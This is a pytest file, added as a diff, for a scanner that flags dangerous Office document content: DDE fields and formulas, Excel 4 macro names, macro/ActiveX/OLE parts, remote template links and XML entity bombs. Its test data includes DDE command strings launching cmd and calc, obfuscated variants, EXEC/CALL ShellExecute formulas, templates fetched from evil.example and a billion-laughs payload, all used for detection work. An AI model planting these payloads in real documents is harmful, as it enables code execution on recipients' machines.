@@ -1,0 +1,185 @@
+"""What the XML of a document makes a program do: fields, formulas, links to other computers, declared parts."""
+
+import pytest
+
+from issues.files.findings import Finding, NotAccepted
+from issues.files.package_xml import check_xml, is_elsewhere
+from tests.issues.files.made import docx, field, finding, relations, xlsx
+
+QUOTED = " ".join(str(ord(c)) for c in "DDEAUTO")
+
+
+def in_word(body: str) -> Finding | None:
+    return finding("a.docx", docx(body=body))
+
+
+class TestFields:
+    @pytest.mark.parametrize(
+        "body",
+        [
+            field("PAGE"),
+            field('HYPERLINK "https://example.vn/dde"'),
+            field("DATE ", '\\@ "dd/MM/yyyy"'),
+            field("QUOTE 65 66 67"),
+            field('TOC \\o "1-3"') + "<w:p><w:t>DDEAUTO là gì?</w:t></w:p>",
+            '<w:fldSimple w:instr="NUMPAGES"/>',
+        ],
+    )
+    def test_those_that_people_use(self, body: str) -> None:
+        assert in_word(body) is None
+
+    @pytest.mark.parametrize(
+        "body",
+        [
+            field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"'),
+            field("  dde Excel Book1"),
+            field("D", "DE", "AUTO", " cmd"),
+            field("&#68;DE cmd"),
+            field("<![CDATA[DDEAUTO]]> cmd"),
+            '<w:fldSimple w:instr=" DDEAUTO cmd "/>',
+            '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+            + field("QUOTE ", QUOTED)
+            + "<w:instrText> cmd</w:instrText>",
+            field("IF 1 = 1 ") + field("DDE cmd"),
+        ],
+    )
+    def test_dde(self, body: str) -> None:
+        assert in_word(body) is Finding.DDE
+
+    @pytest.mark.parametrize("part", ["word/header1.xml", "word/footnotes.xml", "word/anything.xml", "x/y.dat"])
+    def test_in_any_part(self, part: str) -> None:
+        assert finding("a.docx", docx((part, f"<w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>"))) is Finding.DDE
+
+    def test_in_utf_16(self) -> None:
+        header = f"<?xml version='1.0' encoding='UTF-16'?><w:hdr xmlns:w='w'>{field('DDE x')}</w:hdr>".encode("utf-16")
+        assert finding("a.docx", docx(("word/header1.xml", header))) is Finding.DDE
+
+
+class TestFormulas:
+    @pytest.mark.parametrize(
+        "formula",
+        ["SUM(A1:A9)", 'IF(A1="a|b",Sheet2!B1,"!")', "'Bảng | 1'!A1", "'[1]Năm 2026'!$A$1", "CALLS+RUNNER(1)"],
+    )
+    def test_those_that_people_use(self, formula: str) -> None:
+        assert finding("a.xlsx", xlsx(cells=f'<c r="A1"><f>{formula}</f><v>1</v></c>')) is None
+        assert finding("a.xlsx", xlsx(names=f'<definedName name="x">{formula}</definedName>')) is None
+
+    @pytest.mark.parametrize(
+        "formula",
+        ["cmd|'/c calc.exe'!A0", "'cmd'|'/c calc'!A0", "+MSEXCEL|x!y", "IF(1,cmd|&apos;x&apos;!A0)", "a&#124;b!c"],
+    )
+    def test_dde(self, formula: str) -> None:
+        assert finding("a.xlsx", xlsx(cells=f"<c><f>{formula}</f></c>")) is Finding.DDE
+
+    def test_links_to_programs(self) -> None:
+        link = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+        assert finding("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", link))) is Finding.DDE
+        link = '<x:externalLink xmlns:x="a"><x:oleLink progId="Package"/></x:externalLink>'
+        assert finding("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", link))) is Finding.OLE
+
+    @pytest.mark.parametrize(
+        "name",
+        [
+            '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>',
+            '<definedName name="auto_close">Macro1!$A$1</definedName>',
+            '<definedName name="x">EXEC("calc.exe")</definedName>',
+            '<definedName name="x">CALL("Shell32","ShellExecuteA")</definedName>',
+        ],
+    )
+    def test_names_that_run_excel_4_macros(self, name: str) -> None:
+        assert finding("a.xlsx", xlsx(names=name)) is Finding.EXCEL4_MACROS
+
+
+@pytest.mark.parametrize(
+    ("kind", "found"),
+    [
+        ("application/vnd.ms-office.vbaProject", Finding.MACROS),
+        ("application/vnd.ms-word.document.macroEnabled.main+xml", Finding.MACROS),
+        ("application/vnd.ms-excel.sheet.binary.macroEnabled.main", Finding.MACROS),
+        ("application/vnd.ms-excel.macrosheet+xml", Finding.EXCEL4_MACROS),
+        ("application/vnd.ms-excel.intlmacrosheet+xml", Finding.EXCEL4_MACROS),
+        ("application/vnd.ms-office.activeX+xml", Finding.ACTIVEX),
+        ("application/vnd.openxmlformats-officedocument.oleObject", Finding.OLE),
+        ("application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml", None),
+    ],
+)
+def test_the_declared_kind_of_a_part_and_never_its_name(kind: str, found: Finding | None) -> None:
+    assert finding("a.docx", docx(("word/media/x.png", b"x"), declared=(("word/media/x.png", kind),))) is found
+
+
+class TestRelations:
+    @pytest.mark.parametrize("kind", ["attachedTemplate", "frame", "subDocument", "aFChunk", "header", "settings"])
+    @pytest.mark.parametrize("target", ["https://evil.example/t.dotm", "\\\\10.0.0.1\\t.dotm", "file://host/t.dotm"])
+    def test_parts_from_another_computer(self, kind: str, target: str) -> None:
+        part = ("word/_rels/settings.xml.rels", relations(kind, target, external=True))
+        assert finding("a.docx", docx(part)) is Finding.REMOTE
+
+    @pytest.mark.parametrize(
+        ("kind", "target"),
+        [
+            ("hyperlink", "https://example.vn"),
+            ("hyperlink", "mailto:a@example.vn"),
+            ("image", "https://example.vn/logo.png"),
+            ("attachedTemplate", "file:///C:\\Users\\an\\Templates\\Bao%20cao.dotx"),
+            ("attachedTemplate", "C:\\Users\\an\\Normal.dotm"),
+            ("externalLinkPath", "file:///D:\\S%E1%BB%91%20li%E1%BB%87u.xlsx"),
+            ("externalLinkPath", "https://example.sharepoint.com/a.xlsx"),
+        ],
+    )
+    def test_links_that_people_have(self, kind: str, target: str) -> None:
+        part = ("word/_rels/document.xml.rels", relations(kind, target, external=True))
+        assert finding("a.docx", docx(part)) is None
+
+    @pytest.mark.parametrize(
+        ("kind", "found"),
+        [
+            ("vbaProject", Finding.MACROS),
+            ("xlMacrosheet", Finding.EXCEL4_MACROS),
+            ("xlIntlMacrosheet", Finding.EXCEL4_MACROS),
+            ("activeXControlBinary", Finding.ACTIVEX),
+            ("control", Finding.ACTIVEX),
+            ("oleObject", Finding.OLE),
+        ],
+    )
+    def test_programs_and_objects(self, kind: str, found: Finding) -> None:
+        part = ("xl/_rels/workbook.xml.rels", relations(kind, "theme/theme1.xml", microsoft=kind != "oleObject"))
+        assert finding("a.xlsx", xlsx(part)) is found
+        part = ("xl/_rels/workbook.xml.rels", relations(kind, "https://evil.example/x", external=True))
+        assert finding("a.xlsx", xlsx(part)) is found
+
+
+@pytest.mark.parametrize(
+    ("target", "elsewhere"),
+    [
+        ("http://a", True),
+        ("HTTPS://a", True),
+        ("mhtml:http://a!x", True),
+        ("ftp:a", True),
+        ("//a/b", True),
+        ("\\\\a\\b", True),
+        ("file:////a/b", True),
+        ("file:\\\\\\\\a\\b", True),
+        ("%68ttp://a", True),
+        ("file:///home/an/a.dotx", False),
+        ("file:///c|/a.dotx", False),
+        ("c:/a.dotx", False),
+        ("../a.dotx", False),
+        ("", False),
+    ],
+)
+def test_where_a_target_lies(target: str, elsewhere: bool) -> None:
+    assert is_elsewhere(target) is elsewhere
+
+
+def test_declared_entities_are_refused() -> None:
+    laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
+    with pytest.raises(NotAccepted) as refused:
+        check_xml([laughs.encode()])
+    assert refused.value.finding is Finding.BROKEN_OFFICE
+
+
+@pytest.mark.parametrize(
+    "data", [b"", b"<", b"<x>", b"<x/><x/>", b"<?xml version='1.0' encoding='none'?><x/>", b"\xff"]
+)
+def test_broken_xml_is_read_as_far_as_it_goes(data: bytes) -> None:
+    check_xml([data])
